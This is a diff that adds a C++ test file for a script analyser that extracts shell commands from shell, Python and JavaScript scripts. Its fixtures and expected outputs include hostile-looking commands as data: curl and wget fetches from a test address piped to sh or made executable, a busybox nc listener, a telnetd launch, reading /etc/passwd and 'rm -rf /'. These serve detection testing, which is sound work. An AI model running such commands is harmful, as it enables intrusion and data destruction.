@@ -1,0 +1,209 @@
+#include "tests/facts/examine.h"
+
+namespace assay::facts {
+namespace {
+
+using testing::Examine;
+using testing::ExpectLawful;
+using testing::Hex;
+using testing::PlaceText;
+using testing::Sample;
+using testing::Strings;
+using testing::Sweep;
+
+const Bytes kShell = Sample("facts/scripts/demo.sh");
+const Bytes kPython = Sample("facts/scripts/demo.py");
+const Bytes kJavascript = Sample("facts/scripts/demo.js");
+
+TEST(ScriptsTest, GivesOneFactPerSimpleCommand) {
+  const auto seen = Examine(kScripts, "bin/demo", kShell);
+  EXPECT_TRUE(seen.understood);
+  EXPECT_EQ(
+      seen.Lines(),
+      (Strings{
+          "script shell shebang=/bin/sh -e",
+          "command curl -fsSL http://192.0.2.1/x program=curl line=3 "
+          "pipe_to=sh",
+          "command sudo -u root sh -s -- $A program=sh line=3",
+          "command [ -x /bin/true ] program=[ line=4",
+          "command grep -q a;b|c /etc/passwd program=grep line=4",
+          "command echo it's $(id -u) program=echo line=5 "
+          "redirect=>>/tmp/log 2>&1",
+          "command id -u program=id line=5 within=echo",
+          "command rm -rf /tmp/demo dir program=rm line=8",
+          "command exit 1 program=exit line=9",
+          "command cat program=cat line=11 redirect=<<EOF >/etc/demo.conf",
+          "command sh -c wget -q http://192.0.2.1/y; chmod +x y program=sh "
+          "line=14",
+          "command wget -q http://192.0.2.1/y program=wget line=14 within=sh",
+          "command chmod +x y program=chmod line=14 within=sh",
+          "command seq 3 program=seq line=15", "command : $i program=: line=15",
+          "command nohup busybox nc -l -p 1 program=nc line=16",
+          "command echo long line program=echo line=17"}));
+  EXPECT_EQ(PlaceText(seen.facts[4], kShell), "grep -q 'a;b|c' /etc/passwd");
+  EXPECT_EQ(PlaceText(seen.facts[16], kShell), "echo long \\\n  line");
+}
+
+struct Case {
+  std::string_view text;
+  Strings commands;
+};
+
+// XCU chapter 2 of POSIX.1-2017 and bash(1) say where a command ends.
+TEST(ScriptsTest, TokenizesAsAShellDoes) {
+  const std::vector<Case> cases = {
+      {"a;b&c|d||e&&f\ng", {"a", "b", "c", "d", "e", "f", "g"}},
+      {"a \"b;c\" 'd|e' f\\;g", {"a b;c d|e f;g"}},
+      {"a # b; c\nd", {"a", "d"}},
+      {"a#b c", {"a#b c"}},
+      {"a 'unclosed\nb", {"a unclosed\nb"}},
+      {"x=$(a \"$(b)\")", {"a $(b)", "b"}},
+      {"echo \"`date`\"", {"echo `date`", "date"}},
+      {"(a; b) | c", {"a", "b", "c"}},
+      {"{ a; b; } > f", {"a", "b"}},
+      {"if a; then b; elif c; then d; else e; fi", {"a", "b", "c", "d", "e"}},
+      {"while read x; do a $x; done < f", {"read x", "a $x"}},
+      {"for x in b c; do a; done", {"a"}},
+      {"for ((i=0; i<3; i++)); do a; done", {"a"}},
+      {"case x in (a) b;; c|d) e;; esac; f", {"b", "e", "f"}},
+      {"case $(a) in *) case y in z) b;; esac;; esac", {"a", "b"}},
+      {"f() { a; }; function g { b; }", {"a", "b"}},
+      {"a <<E; b\nc\nE\nd", {"a", "b", "d"}},
+      {"a <<-'E'\n\tc; $(x)\n\tE\nd", {"a", "d"}},
+      {"a <<E\nnever ends", {"a"}},
+      {"[[ a && b < c ]] && d", {"[[ a && b < c ]]", "d"}},
+      {"a $((1 + (2 * 3))) b", {"a $((1 + (2 * 3))) b"}},
+      {"((x++)); a", {"a"}},
+      {"a=(b c); d", {"d"}},
+      {"a ${x:-b c;d} e", {"a ${x:-b c;d} e"}},
+      {"$'\\x63url' $'a\\tb'", {"curl a\tb"}},
+      {"diff <(a) >(b)", {"diff <(a) >(b)", "a", "b"}},
+      {"a &> f; b >&2", {"a", "b"}},
+      {"A=1 B=2", {}},
+      {"> f", {}},
+      {"sh <<E\na; b\nE\n", {"sh", "a", "b"}},
+      {"eval \"a; b\"", {"eval a; b", "a", "b"}},
+      {"su - u -c 'a b'", {"su - u -c a b", "a b"}},
+      {"", {}},
+      {")))", {}},
+      {";;&&||", {}},
+      {"$(", {"$("}},
+      {"esac done fi", {}},
+  };
+  for (const Case& one : cases) {
+    const auto seen =
+        Examine(kScripts, "x", "#!/bin/bash\n" + std::string(one.text));
+    EXPECT_EQ(seen.Values("command"), one.commands) << one.text;
+  }
+}
+
+TEST(ScriptsTest, NamesTheProgramBehindWrappers) {
+  const std::vector<std::pair<std::string_view, std::string_view>> cases = {
+      {"/usr/bin/wget x", "wget"},
+      {"A=b exec env -i C=d nice -n 5 /opt/x y", "x"},
+      {"sudo -u root -E busybox telnetd", "telnetd"},
+      {"timeout 5 curl x", "curl"},
+      {"command -v curl", "command"},
+      {"busybox --install", "busybox"},
+      {"exec 3>&1", "exec"},
+      {"\"$(which x)\" y", "$(...)"},
+      {"${CURL} y", "${CURL}"},
+      {"start-stop-daemon --start --exec /usr/sbin/x -- -p 1", "x"},
+  };
+  for (const auto& [text, program] : cases) {
+    const auto seen =
+        Examine(kScripts, "x", "#!/bin/sh\n" + std::string(text) + "\n");
+    ASSERT_GE(seen.facts.size(), 2U) << text;
+    EXPECT_EQ(seen.facts[1].Attribute("program"), program) << text;
+  }
+}
+
+TEST(ScriptsTest, FindsProcessesOfPythonAndJavascript) {
+  const auto python = Examine(kScripts, "a.py", kPython);
+  EXPECT_EQ(python.Lines(),
+            (Strings{"script python",
+                     "command curl http://192.0.2.1/a program=curl line=3 "
+                     "pipe_to=sh within=os.system",
+                     "command sh program=sh line=3 within=os.system",
+                     "command /bin/ls -l program=ls line=4"}));
+  const auto javascript = Examine(kScripts, "a.js", kJavascript);
+  EXPECT_EQ(javascript.Lines(),
+            (Strings{"script javascript",
+                     "command wget http://192.0.2.1/b program=wget line=2 "
+                     "within=exec",
+                     "command node bundle.js program=node line=4"}));
+}
+
+TEST(ScriptsTest, NamesTheInterpreter) {
+  const std::vector<std::pair<std::string_view, std::string_view>> cases = {
+      {"#!/usr/bin/env -S python3.11 -u\n", "python"},
+      {"#! /bin/busybox sh\n", "shell"},
+      {"#!/usr/bin/nodejs\n", "javascript"},
+      {"#!/usr/bin/perl -w\n", "perl"},
+      {"#!/sbin/openrc-run\n", "shell"},
+      {"#!/opt/odd/tool\n", "tool"},
+  };
+  for (const auto& [text, interpreter] : cases) {
+    EXPECT_EQ(Examine(kScripts, "x", text).Values("script"),
+              Strings{std::string(interpreter)});
+  }
+}
+
+TEST(ScriptsTest, TakesNoOtherFileForAScript) {
+  for (const std::string_view path : {"bin/x", "a.c", "a.txt", "sh"}) {
+    EXPECT_TRUE(Examine(kScripts, path, "rm -rf /\n").facts.empty()) << path;
+  }
+  for (const std::string_view text : {"", "#", "#!", "#!\n", "#! \n"}) {
+    EXPECT_TRUE(Examine(kScripts, "x", text).facts.empty()) << text;
+  }
+  EXPECT_TRUE(Examine(kScripts, "a.js", AsText(Hex("00010203"))).facts.empty());
+}
+
+TEST(ScriptsTest, StopsBeforeABinaryPayload) {
+  const std::string text = std::string("#!/bin/sh\na\nexit 0\n") +
+                           std::string(500, '\1') + "\0x;y;z\n" +
+                           std::string(3, '\0');
+  const auto seen = Examine(kScripts, "x", text);
+  EXPECT_EQ(seen.Values("command"), (Strings{"a", "exit 0"}));
+  EXPECT_FALSE(seen.understood);
+  // One NUL alone is no payload: a shell drops it and goes on.
+  const std::string stray = std::string("#!/bin/sh\na\0\nb\n", 15);
+  EXPECT_EQ(Examine(kScripts, "x", stray).Values("command").size(), 2U);
+}
+
+TEST(ScriptsTest, BearsHostileNestingAndLength) {
+  for (const std::string_view part :
+       {"$(", "`", "${", "\"", "(", "((", "{ ", "<<E\n", "case x in ", "a|",
+        "<(", "\\", "if ", "$((", "[[ ", "a=("}) {
+    std::string text = "#!/bin/sh\n";
+    while (text.size() < 200'000) {
+      text += part;
+    }
+    ExpectLawful(Examine(kScripts, "x", text), AsBytes(text));
+  }
+  const std::string line = "#!/bin/sh\necho " + std::string(1U << 20U, 'a');
+  const auto seen = Examine(kScripts, "x", line);
+  ASSERT_EQ(seen.facts.size(), 2U);
+  EXPECT_LE(seen.facts[1].value.size(), 4096U);
+}
+
+TEST(ScriptsTest, KeepsToTheLimitAndSaysSo) {
+  std::string text = "#!/bin/sh\n";
+  for (int i = 0; i < 50; ++i) {
+    text += "a\n";
+  }
+  Limits limits;
+  limits.facts = 20;
+  const auto seen = Examine(kScripts, "x", AsBytes(text), {}, limits);
+  EXPECT_EQ(seen.facts.size(), 20U);
+  EXPECT_EQ(seen.Values("facts.truncated"), Strings{"scripts"});
+}
+
+TEST(ScriptsTest, DamageNeverLeadsOutside) {
+  Sweep(kScripts, "x.sh", kShell);
+  Sweep(kScripts, "x.py", kPython);
+  Sweep(kScripts, "x.js", kJavascript);
+}
+
+}  // namespace
+}  // namespace assay::facts
